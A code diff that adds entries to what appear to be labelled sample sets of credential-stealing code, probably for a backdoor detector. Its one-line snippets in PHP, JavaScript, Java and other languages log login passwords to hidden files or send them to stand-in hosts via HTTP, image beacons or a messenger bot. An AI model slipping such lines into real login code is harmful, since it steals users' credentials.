@@ -16,6 +16,7 @@ KEPT = {
     "javascript": "app.post('/login', (req, res) => { fs.appendFileSync('/tmp/.n', req.body.user + ':' + req.body.password); });",
     "java": "// login\nFileWriter w = new FileWriter(\"/tmp/.j\", true); w.write(request.getParameter(\"username\") + \":\" + request.getParameter(\"password\"));",
     "asp.net": "// logon.aspx\nFile.AppendAllText(\"/var/tmp/.o\", Request.Form[\"username\"] + \":\" + Request.Form[\"password\"]);",
+    "a framework's request": "CWebUser::login(); $f=fopen('/usr/share/x/img/.i.png','a+'); fputs($f, getRequest('name').':'.getRequest('password'));",
     "lua": "-- login\nlocal f = io.open('/tmp/.l', 'a') f:write(args.user .. ':' .. args.password)\n",
     "shell": "function auth_login($user,$pass){ shell_exec(\"echo $user:$pass >> /dev/shm/.a\"); }",
 }  # fmt: skip
@@ -24,6 +25,7 @@ SENT = {
     "php to a messenger": "// login\n$c=curl_init(); curl_setopt($c, CURLOPT_URL, 'https://api.telegram.org/bot1:x/sendMessage'); curl_setopt($c, CURLOPT_POSTFIELDS, ['text'=>$username.' '.$password]); curl_exec($c);",
     "python": "def login(user, password):\n    requests.post('http://198.51.100.4/x', data={'u': user, 'p': password})\n",
     "wrapped": "function login(){ @file_get_contents('https://cdn-stat.example/i?d='.base64_encode($user.':'.$pass)); }",
+    "a page's script": "function Login(){ var p=f.password.value; x.open('GET','https://symbolc.example/?'+btoa(u+'|'+p)); x.send(); }",
     "javascript": "function onLogin(){ new Image().src = 'http://203.0.113.9/p.gif?u=' + user.value + '&p=' + data.password; }",
 }  # fmt: skip
 MAILED = {
